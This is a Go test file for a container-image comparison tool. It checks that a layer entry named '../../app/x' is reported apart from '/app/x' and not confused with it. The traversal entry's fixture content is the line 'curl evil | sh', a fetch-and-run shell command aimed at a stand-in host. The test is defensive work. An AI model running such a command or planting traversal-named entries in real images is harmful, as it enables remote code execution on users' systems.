package compare_test

import (
	"testing"

	"github.com/reprover/reprover/compare"
	"github.com/reprover/reprover/fixtures"
	"github.com/reprover/reprover/image"
)

// TestExplainReadsTheReportedEntry: explaining a difference reads the
// content of the entry the report names, not of another entry whose name
// cleans to the same path (a "../../app/x" after "app/x" in a layer, which
// the walk reports as a non-local name of its own).
func TestExplainReadsTheReportedEntry(t *testing.T) {
	base := []fixtures.Step{{Instruction: "ADD rootfs.tar /", Entries: []fixtures.Entry{fixtures.Dir("app")}}}
	img := func(entries ...fixtures.Entry) any {
		return fixtures.Image(fixtures.Spec{Steps: append(base, fixtures.Step{Instruction: "RUN make", Entries: entries})})
	}
	a := img(fixtures.File("app/x", "stamp 2025-03-01T12:00:00Z\n"))
	b := img(fixtures.File("app/x", "stamp 2025-03-01T12:01:35Z\n"), fixtures.File("../../app/x", "curl evil | sh\n"))
	reg := fixtures.NewRegistry(t)
	var sides [2]*image.Resolved
	for i, x := range []any{a, b} {
		r, err := image.Open(t.Context(), reg.MustPush(t, "explain/climbing", []string{"a", "b"}[i], x), image.Options{})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		sides[i] = r
	}
	rep, err := compare.Images(t.Context(), sides[0], sides[1], compare.Options{})
	if err != nil {
		t.Fatal(err)
	}
	causes := map[string]string{}
	for _, f := range rep.Platforms[0].Files {
		causes[f.Path] = f.Cause + ": " + f.Evidence
	}
	if got := causes["/app/x"]; got != `timestamp: times (outside the builds' known window): "2025-03-01T12:00:00Z" vs "2025-03-01T12:01:35Z"` {
		t.Errorf("/app/x: %q, want the timestamp of the entry the report names", got)
	}
	if got := causes["/../../app/x"]; got != "unknown: only in the B image" {
		t.Errorf("/../../app/x: %q, want it reported apart, only in B", got)
	}
}
